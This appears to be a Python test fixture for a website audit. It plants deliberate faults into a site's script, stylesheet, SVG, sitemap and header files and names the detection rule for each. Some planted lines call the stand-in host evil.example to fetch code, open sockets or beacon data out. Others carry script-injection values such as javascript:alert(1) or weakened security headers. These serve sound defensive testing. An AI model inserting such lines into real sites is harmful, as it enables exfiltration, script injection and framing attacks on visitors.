"""Faults inside scripts, styles, drawings and the files of the host: name \u2192 (rule that finds it, what is done)."""

from tests.audit.planting import Plant, Tree, find, pattern, swap, write

SCRIPT, CSS, SVG, MAP, HEADERS = "assets/js/atlas.js", "assets/css/atlas.css", "figures/pull-up.svg", "sitemap.xml", "_headers"


def append(name_pattern: str, text: str) -> Plant:
    """Add a text at the end of a file."""

    def plant(tree: Tree) -> None:
        name = find(tree, name_pattern)
        tree[name] += text.encode()

    return plant


def draw(markup: str) -> Plant:
    return swap(SVG, "</svg>", f"{markup}</svg>")


def send(header: str) -> Plant:
    return swap(HEADERS, "  X-Content", f"  {header}\n  X-Content")


WITHIN: dict[str, tuple[str, Plant]] = {
    **{
        f"script with {text}": ("script-content", append(SCRIPT, f"\n{text}\n"))
        for text in ("fetch('https://evil.example/');", "import('https://evil.example/x.js');", "new WebSocket('wss://evil.example/');",
                     "navigator.sendBeacon('//evil.example/', 1);", "location.href = `https://evil.example/`;", "eval('1');", "document.write('x');",
                     "debugger;", "//# sourceMappingURL=atlas.js.map", "var x = '{{ base }}';")
    },
    "script that calls nothing": ("script", write(SCRIPT, "(function () {\n  // gone\n})();\n")),
    **{
        f"styles with {text}": ("style-sheet", append(CSS, f"\n.a{{{text}}}"))
        for text in ("width:NaNpx", "color:undefined", "width:None", "width:expression(alert(1))", "color:{{ x }}")
    },
    **{
        f"styles in which {text}": ("hidden", append(CSS, f"\n{text}"))
        for text in ("main{position:absolute;left:-9999px}", "body{font-size:0}", "main{color:transparent}", ".md-header{display:none}", ".md-footer{display:none}")
    },
    "path of no number after a command": ("drawing", draw('<path d="MNaN 0h1"/>')),
    "None in the words of a drawing": ("drawing", draw("<text>None</text>")),
    "template in the words of a drawing": ("drawing", draw("<text>{{ x }}</text>")),
    "paint that is not there": ("broken-anchor", draw('<path fill="url(#nothing)" d="M0 0h1"/>')),
    "script among values of a movement": ("drawing-script", draw('<animate attributeName="href" values="javascript:alert(1)"/>')),
    "drawing of no extent": ("drawing", pattern(SVG, r'viewBox="[^"]*"', 'viewBox="0 0 0 0"')),
    "drawing of less than no extent": ("drawing", pattern(SVG, r'viewBox="[^"]*"', 'viewBox="0 0 -10 10"')),
    "drawing that is hidden": ("drawing", swap(SVG, "<svg", '<svg display="none"')),
    "drawing without color": ("drawing", swap(SVG, "<svg", '<svg opacity="0"')),
    "list of addresses of another kind": ("sitemap", swap(MAP, "sitemaps.org/schemas/sitemap/0.9", "sitemaps.org/x")),
    "style sheet in the list of addresses": ("sitemap", swap(MAP, "</urlset>", "<url><loc>https://back-atlas.org/assets/css/atlas.css</loc></url></urlset>")),
    "address in a comment": ("not-in-sitemap", pattern(MAP, r"(<url><loc>[^<]*pull-up/.*?</url>)", r"<!-- \1 -->")),
    "robots that wait": ("robots", swap("robots.txt", "Allow: /", "Crawl-delay: 9999")),
    **{
        f"sent with {text}": ("headers", send(text))
        for text in ("Cache-Control: public, max-age=31536000", "Strict-Transport-Security: max-age=0", "Content-Disposition: attachment",
                     "Content-Encoding: br", "X-Frame-Options: ALLOWALL", 'Clear-Site-Data: "*"', "Expires: Thu, 01 Jan 2099 00:00:00 GMT",
                     "SourceMap: /x.map", 'Reporting-Endpoints: a="https://evil.example"')
    },
    "index of search kept for ever": ("headers", swap(HEADERS, "Cache-Control: no-cache", "Cache-Control: public, max-age=31536000, immutable")),
}  # fmt: skip
